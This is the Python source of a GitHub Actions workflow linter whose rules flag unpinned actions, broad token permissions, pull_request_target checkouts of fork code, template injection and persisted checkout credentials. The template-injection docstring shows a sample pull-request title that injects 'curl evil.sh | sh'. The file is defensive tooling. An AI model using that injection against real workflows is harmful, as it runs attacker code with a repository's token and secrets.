"""Good practice for every workflow and composite action in the repository, after zizmor's
audits of the same names (its audit names are the rules' `peers`): pinned actions, least
token permissions, no pull request code run with the base repository's secrets, no
attacker-controlled text expanded into shell scripts, no credentials left in the checkout."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from auditor.documents.workflow import Step
from auditor.documents.yamlfile import is_mapping, key_of, mapping_get
from auditor.lazy_pattern import LazyPattern
from auditor.rule import Context, Edit, Finding, Fix, Severity, Span, register
from rules.workflow._base import (
    WorkflowRule,
    action_name,
    all_steps,
    expressions,
    is_full_sha,
    step_span,
    workflows,
)

# Contexts whose text someone outside the repository controls (a pull request's title or
# branch name, an issue comment, a commit message).
_UNTRUSTED_RE = LazyPattern(r"\bgithub\.(?:event\.[\w.\-\[\]'\"*]+|head_ref)\b")
_UNTRUSTED_IN_ACTION_RE = LazyPattern(
    r"\bgithub\.(?:event\.[\w.\-\[\]'\"*]+|head_ref)\b|\binputs\.[\w-]+"
)
# Fields under github.event that are numbers, hashes or set by GitHub, never free text.
_SAFE_EVENT_FIELD_RE = LazyPattern(
    r"\.(?:number|id|sha|before|after|created_at|updated_at|merged|draft|run_id|run_number|"
    r"run_attempt|size|commits|additions|deletions|changed_files|forced|deleted|created)$"
)
_PR_CODE_RE = LazyPattern(
    r"github\.event\.(?:pull_request\.head|workflow_run\.head)|github\.head_ref|refs/pull/"
)
_GIT_WITH_TOKEN_RE = LazyPattern(r"\bgit\s+(?:push|fetch|pull|tag|commit|remote|submodule)\b")


def _checkouts(context: Context) -> Iterator[Step]:
    for step in all_steps(context):
        if action_name(step.uses) == "actions/checkout":
            yield step


@register
class UnpinnedAction(WorkflowRule):
    """An action or reusable workflow is not pinned to a full commit SHA.

    ## What it does
    Reports every remote `uses:` (a step's action, a job's reusable workflow) whose ref is not
    a 40-character commit SHA, and a `docker://` image without an `@sha256:` digest, in
    workflows and composite actions. Local `./` references are the repository's own code.

    ## Why is this bad?
    A tag or branch is moved by whoever controls the action's repository: a compromised
    maintainer account (as with `tj-actions/changed-files` in 2025) then runs its code with
    your workflow's token and secrets. A commit SHA cannot be moved.

    ## Example
    ```yaml
          - uses: docker/login-action@v3
    ```

    ## How to fix
    Pin the commit and keep the release in a comment, which Dependabot and Renovate update:
    ```yaml
          - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772 # v3.4.0
    ```
    """

    code = "GH010"
    name = "unpinned-action"
    summary = "An action or reusable workflow is not pinned to a full commit SHA"
    severity = Severity.WARNING
    peers = ("unpinned-uses",)
    bad_examples = (
        WorkflowRule.bad(
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
            "      - uses: docker/login-action@v3\n      - uses: actions/setup-python\n",
            count=2,
        ),
        WorkflowRule.bad(
            "on: push\npermissions: {}\njobs:\n  a:\n    uses: octo/ci/.github/workflows/x.yml@main\n",
            count=1,
        ),
    )
    good_examples = (
        WorkflowRule.good(
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
            "      - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772 # v3.4.0\n"
            "      - uses: ./.github/actions/local\n"
            "      - uses: docker://alpine@sha256:"
            "4bcff63911fcb4448bd4fdacec207030997caf25e9bea4045fa6c8c44de311d1\n"
        ),
    )

    def check(self, context: Context) -> Iterator[Finding]:
        for step in all_steps(context):
            problem = _unpinned(step.uses)
            if problem:
                yield self.finding(step.document, Span(*step_span(step, "uses")), problem)
        for workflow in workflows(context):
            for job in workflow.jobs():
                problem = _unpinned(job.uses)
                if problem:
                    span = workflow.key_line_span(job.mapping, key_of(job.mapping, "uses"))
                    yield self.finding(workflow, Span(*span), problem)


def _unpinned(uses: str) -> str | None:
    if not uses or uses.startswith("./") or "${{" in uses:
        return None
    if uses.startswith("docker://"):
        if "@sha256:" in uses:
            return None
        return f"`{uses}` is not pinned by digest (@sha256:...)"
    name, _, ref = uses.partition("@")
    if not ref:
        return f"`{uses}` has no ref: it runs whatever the default branch holds"
    if is_full_sha(ref):
        return None
    return f"`{uses}` is pinned to {ref!r}, which can be moved: pin a full commit SHA"


@register
class ExcessivePermissions(WorkflowRule):
    """A workflow's jobs run with the default or write-all token permissions.

    ## What it does
    Reports a job that has no `permissions:` in a workflow without a top-level
    `permissions:` (and, when the workflow has several jobs, the workflow's first line as
    well, as zizmor does), a `write` scope granted at the workflow level of a workflow with
    several jobs while some job sets no permissions of its own (it inherits the write), and
    any `permissions: write-all`.

    ## Why is this bad?
    Without `permissions:`, the `GITHUB_TOKEN` gets the repository's default, which in many
    organisations and every repository created before 2023 is read-write on everything:
    contents, packages, pull requests. Any step (or compromised action) can then push code
    or publish packages.

    ## Example
    ```yaml
    on: push
    jobs:
      test:
        runs-on: ubuntu-24.04
        steps: ...
    ```

    ## How to fix
    Start from nothing at the top and grant each job what it needs:
    ```yaml
    permissions:
      contents: read
    jobs:
      push:
        permissions:
          contents: read
          packages: write
    ```
    """

    code = "GH011"
    name = "excessive-permissions"
    summary = "Jobs run with the default or write-all GITHUB_TOKEN permissions"
    severity = Severity.WARNING
    peers = ("excessive-permissions",)
    bad_examples = (
        WorkflowRule.bad(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps: [{run: make}]\n"
            "  b:\n    runs-on: ubuntu-24.04\n    permissions: {contents: read}\n"
            "    steps: [{run: make}]\n",
            count=2,
        ),
        WorkflowRule.bad(
            "on: push\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
            "    steps: [{run: make}]\n",
            count=1,
        ),
        WorkflowRule.bad(
            "on: push\npermissions:\n  contents: read\n  packages: write\njobs:\n  a:\n"
            "    runs-on: ubuntu-24.04\n    steps: [{run: make}]\n  b:\n    runs-on: ubuntu-24.04\n"
            "    permissions: {}\n    steps: [{run: make}]\n",
            count=1,
        ),
    )
    good_examples = (
        WorkflowRule.good(
            "on: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
            "    steps: [{run: make}]\n"
        ),
        WorkflowRule.good(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    permissions: {}\n"
            "    steps: [{run: make}]\n"
        ),
    )

    def check(self, context: Context) -> Iterator[Finding]:
        for workflow in workflows(context):
            top = key_of(workflow.data, "permissions")
            if top is not None and _is_write_all(workflow.data[top]):
                span = Span(*workflow.key_line_span(workflow.data, top))
                yield self.finding(workflow, span, "`permissions: write-all` grants every scope")
            jobs = workflow.jobs()
            unset = [
                job for job in jobs if key_of(job.mapping, "permissions") is None and not job.uses
            ]
            if top is not None and unset and len(jobs) > 1 and is_mapping(workflow.data[top]):
                # Write scopes granted at the top reach every job that sets none of its own
                # (with a single job, the top-level block is that job's, as zizmor sees it).
                granted = workflow.data[top]
                for scope, level in granted.items():
                    if isinstance(level, str) and level.strip() == "write":
                        span = Span(*workflow.key_line_span(granted, scope))
                        message = (
                            f"`{scope}: write` at the workflow level reaches every job without its "
                            f"own permissions ({', '.join(repr(job.id) for job in unset)}): grant it "
                            "in the job that needs it"
                        )
                        yield self.finding(workflow, span, message)
            if top is None and unset and len(jobs) > 1:
                # One line for the workflow too, as zizmor does: a top-level block is the fix
                # that covers every job at once.
                message = (
                    "the workflow has no top-level `permissions:`, so jobs without their own "
                    "run with the repository's default token permissions"
                )
                yield self.finding(workflow, workflow.line_span(1), message)
            for job in jobs:
                key = key_of(job.mapping, "permissions")
                if key is not None:
                    if _is_write_all(job.mapping[key]):
                        span = Span(*workflow.key_line_span(job.mapping, key))
                        message = f"job {job.id!r} has `permissions: write-all`"
                        yield self.finding(workflow, span, message)
                elif top is None and not job.uses:
                    span = Span(*workflow.key_line_span(workflow.jobs_mapping, job.id))
                    message = (
                        f"job {job.id!r} runs with the repository's default token permissions: "
                        "set `permissions:` (e.g. `contents: read`)"
                    )
                    yield self.finding(workflow, span, message)


def _is_write_all(value: object) -> bool:
    return isinstance(value, str) and value.strip() == "write-all"


@register
class PullRequestTargetCheckout(WorkflowRule):
    """A `pull_request_target` or `workflow_run` workflow checks out the pull request's code.

    ## What it does
    In a workflow triggered by `pull_request_target` or `workflow_run`, reports an
    `actions/checkout` whose `ref:` names the pull request's head
    (`github.event.pull_request.head.*`, `github.head_ref`, `refs/pull/...`,
    `github.event.workflow_run.head_*`).

    ## Why is this bad?
    Those triggers run with the base repository's secrets and a write token, for pull
    requests from anyone's fork. Checking out the fork's code and then building or testing it
    runs the stranger's code with those secrets ("pwn request").

    ## Example
    ```yaml
    on: pull_request_target
    jobs:
      test:
        steps:
          - uses: actions/checkout@<sha>
            with:
              ref: ${{ github.event.pull_request.head.sha }}
          - run: make test
    ```

    ## How to fix
    Use `on: pull_request` to build and test pull requests; keep `pull_request_target` for
    jobs that only label or comment and never check out the head.
    """

    code = "GH012"
    name = "pull-request-target-checkout"
    summary = "pull_request_target or workflow_run checks out the pull request's code"
    severity = Severity.ERROR
    peers = ("dangerous-triggers",)
    bad_examples = (
        WorkflowRule.bad(
            "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
            "    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n"
            "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
            "          persist-credentials: false\n      - run: make test\n",
            count=1,
        ),
    )
    good_examples = (
        WorkflowRule.good(
            "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
            "    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n"
            "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
            "          persist-credentials: false\n"
        ),
        WorkflowRule.good(
            "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
            "    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n"
            "        with:\n          persist-credentials: false\n"
        ),
    )

    def check(self, context: Context) -> Iterator[Finding]:
        for workflow in workflows(context):
            dangerous = {"pull_request_target", "workflow_run"} & set(workflow.triggers())
            if not dangerous:
                continue
            for step in workflow.steps():
                if action_name(step.uses) != "actions/checkout":
                    continue
                ref = mapping_get(step.inputs, "ref")
                if isinstance(ref, str) and _PR_CODE_RE.search(ref):
                    key = key_of(step.inputs, "ref")
                    span = Span(*workflow.key_line_span(step.inputs, key))
                    trigger = " and ".join(sorted(dangerous))
                    message = (
                        f"{step.describe()} checks out the pull request's code in a "
                        f"{trigger} workflow, which runs with the base repository's secrets"
                    )
                    yield self.finding(workflow, span, message)


@register
class TemplateInjection(WorkflowRule):
    """Text from the triggering event is expanded into a shell script.

    ## What it does
    Reports `${{ ... }}` expressions in a `run:` (and in `actions/github-script`'s `script:`)
    that read free text from the event: `github.event.*` (a pull request's title or body,
    an issue comment, a branch name, a commit message) or `github.head_ref`, and in a
    composite action also `inputs.*`, which hold whatever the calling workflow passes.
    Numbers, hashes and ids (`github.event.pull_request.number`, `...head.sha`) are left
    alone.

    ## Why is this bad?
    GitHub pastes the text into the script before the shell runs it. A pull request titled
    `a"; curl evil.sh | sh; echo "` then runs the attacker's commands with the job's token.

    ## Example
    ```yaml
          - run: echo "Title: ${{ github.event.pull_request.title }}"
    ```

    ## How to fix
    Pass it through an environment variable, which the shell treats as data:
    ```yaml
          - run: echo "Title: $TITLE"
            env:
              TITLE: ${{ github.event.pull_request.title }}
    ```
    """

    code = "GH013"
    name = "template-injection"
    summary = "Event text (github.event.*, github.head_ref) is expanded inside a run: script"
    severity = Severity.ERROR
    peers = ("template-injection",)
    bad_examples = (
        WorkflowRule.bad(
            "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
            "    steps:\n      - run: |\n          echo start\n"
            '          echo "${{ github.event.pull_request.title }}"\n',
            count=1,
        ),
        WorkflowRule.bad(
            "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
            "    steps:\n      - run: git switch ${{ github.head_ref }}\n",
            count=1,
        ),
    )
    good_examples = (
        WorkflowRule.good(
            "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
            '    steps:\n      - run: echo "$TITLE" ${{ github.event.pull_request.number }}\n'
            "        env:\n          TITLE: ${{ github.event.pull_request.title }}\n"
        ),
        WorkflowRule.good(
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
            "    strategy:\n      matrix:\n        python: ['3.11', '3.12']\n"
            "    steps:\n      - run: echo ${{ matrix.python }} ${{ github.sha }}\n"
        ),
    )

    def check(self, context: Context) -> Iterator[Finding]:
        for step in all_steps(context):
            key = "run"
            script = step.run
            if not script and action_name(step.uses) == "actions/github-script":
                key, script = "with", str(mapping_get(step.inputs, "script") or "")
            if "${{" not in script:
                continue
            document = step.document
            # A composite action's inputs are whatever its callers pass, event text included.
            untrusted = _UNTRUSTED_IN_ACTION_RE if not step.job else _UNTRUSTED_RE
            container = step.mapping if key == "run" else step.inputs
            start = document.value_position(
                container, key_of(container, key if key == "run" else "script")
            )
            for _, expression in expressions(script):
                unsafe = [
                    match.group(0)
                    for match in untrusted.finditer(expression)
                    if not _SAFE_EVENT_FIELD_RE.search(match.group(0))
                ]
                if not unsafe:
                    continue
                found = document.find_text(expression, *start)
                line, column = found if found else start
                span = Span(line, column, line, column + len(expression))
                message = (
                    f"`${{{{ {expression} }}}}` is expanded into the script: "
                    f"pass {unsafe[0]} through `env:` and use the variable"
                )
                yield self.finding(document, span, message)


@register
class CheckoutPersistsCredentials(WorkflowRule):
    """`actions/checkout` leaves the token in `.git/config`.

    ## What it does
    Reports an `actions/checkout` step without `persist-credentials: false`, in workflows
    and composite actions.

    ## Why is this bad?
    By default checkout writes the job's `GITHUB_TOKEN` into `.git/config`, where every later
    step can read it, and where an `upload-artifact` of the workspace publishes it
    ("artipacked").

    ## Example
    ```yaml
          - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
    ```

    ## How to fix
    ```yaml
          - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
            with:
              persist-credentials: false
    ```
    `--fix` adds it. The fix is safe unless a later step of the job runs `git push`,
    `fetch`, `pull`, `tag`, `commit`, `remote` or `submodule`, which may rely on the stored
    token; then it is unsafe. It is not offered for a flow-style (`{...}`) step.
    """

    code = "GH014"
    name = "checkout-persists-credentials"
    summary = "actions/checkout without persist-credentials: false leaves the token on disk"
    severity = Severity.WARNING
    peers = ("artipacked",)
    fixable = True
    bad_examples = (
        WorkflowRule.bad(
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
            "      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n"
            "      - run: make\n",
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
            "      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n"
            "        with:\n          persist-credentials: false\n"
            "      - run: make\n",
        ),
        WorkflowRule.bad(
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
            "      - name: Checkout\n        uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n"
            "        with:\n          fetch-depth: 0 # all history\n",
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
            "      - name: Checkout\n        uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n"
            "        with:\n          persist-credentials: false\n          fetch-depth: 0 # all history\n",
        ),
        WorkflowRule.bad(
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
            "      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n"
            "        with:\n          persist-credentials: true\n      - run: git push origin HEAD\n",
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
            "      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n"
            "        with:\n          persist-credentials: false\n      - run: git push origin HEAD\n",
            unsafe=True,
        ),
    )
    good_examples = (
        WorkflowRule.good(
            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
            "      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n"
            "        with:\n          persist-credentials: false\n"
        ),
    )

    def check(self, context: Context) -> Iterator[Finding]:
        last_git_steps: dict[int, dict[str, int]] = {}
        for step in _checkouts(context):
            if mapping_get(step.inputs, "persist-credentials") is False:
                continue
            persisted = mapping_get(step.inputs, "persist-credentials")
            if isinstance(persisted, str) and "${{" in persisted:
                continue  # decided at run time
            message = (
                "actions/checkout keeps the token in .git/config: set persist-credentials: false"
            )
            # The step's first line, where zizmor points too (a named step starts at `name:`).
            line, column = step.document.item_position(step.steps, step.index)
            span = Span(line, column, line, step.document.line_length(line) + 1)
            yield self.finding(step.document, span, message, self._fix(step, last_git_steps))

    def _fix(self, step: Step, last_git_steps: dict[int, dict[str, int]]) -> Fix | None:
        edit = _persist_credentials_edit(step)
        if edit is None:
            return None
        message = "Add `persist-credentials: false` to the checkout"
        # Found once per document (by identity), not per checkout: searching every later
        # step's script again for each checkout was quadratic in the steps.
        key = id(step.document)
        if key not in last_git_steps:
            last_git_steps[key] = _last_git_steps(step.document)
        last_git_step = last_git_steps[key].get(step.job, -1)
        if last_git_step > step.index:
            return Fix.unsafe(message + " (a later step runs git and may need the token)", edit)
        return Fix.safe(message, edit)


def _last_git_steps(document: Any) -> dict[str, int]:
    """For each job of a workflow (or action), the index of its last step whose script runs
    git with the token."""
    found: dict[str, int] = {}
    for step in document.steps():
        if _GIT_WITH_TOKEN_RE.search(step.run):
            found[step.job] = max(found.get(step.job, -1), step.index)
    return found


def _persist_credentials_edit(step: Step) -> Edit | None:
    """The minimal text edit: change an explicit value, else add a line under `with:`, else
    add `with:` under the step. None for flow-style mappings, which have no lines to add."""
    document = step.document
    step_line, step_column = document.item_position(step.steps, step.index)
    inputs_key = key_of(step.mapping, "with")
    if inputs_key is not None:
        inputs = step.mapping[inputs_key]
        if not is_mapping(inputs) or getattr(inputs, "fa", None) is None or inputs.fa.flow_style():
            return None
        existing = key_of(inputs, "persist-credentials")
        if existing is not None:
            line, column = document.value_position(inputs, existing)
            text = document.lines[line - 1]
            end = column
            while end <= len(text) and text[end - 1] not in " #":
                end += 1
            return Edit.replace(document.path, Span(line, column, line, end), "false")
        if not inputs:
            return None
        first = next(iter(inputs))
        line, column = document.key_position(inputs, first)
        indent = " " * (column - 1)
        return Edit.insert(document.path, line, 1, f"{indent}persist-credentials: false\n")
    if getattr(step.mapping, "fa", None) is None or step.mapping.fa.flow_style():
        return None
    uses_key = key_of(step.mapping, "uses")
    _, key_column = document.key_position(step.mapping, uses_key)
    last_line = _last_line_of_step(step, step_line)
    indent = " " * (key_column - 1)
    text = f"{indent}with:\n{indent}  persist-credentials: false\n"
    if last_line + 1 <= len(document.lines):
        return Edit.insert(document.path, last_line + 1, 1, text)
    return Edit.insert(
        document.path, last_line, document.line_length(last_line) + 1, "\n" + text.rstrip("\n")
    )


def _last_line_of_step(step: Step, first: int) -> int:
    """The last non-blank, non-comment line of a step: the line before the next item, or
    the step's keys' last line."""
    document = step.document
    if step.index + 1 < len(step.steps):
        end = document.item_position(step.steps, step.index + 1)[0] - 1
    else:
        last_key = list(step.mapping)[-1]
        end = document.value_position(step.mapping, last_key)[0]
        # A block scalar or nested mapping continues on deeper-indented lines.
        _, column = document.key_position(step.mapping, last_key)
        while end < len(document.lines):
            following = document.lines[end]
            stripped = following.strip()
            if stripped and len(following) - len(following.lstrip()) < column:
                break
            end += 1
    while end > first and (
        not document.lines[end - 1].strip() or document.lines[end - 1].strip().startswith("#")
    ):
        end -= 1
    return end
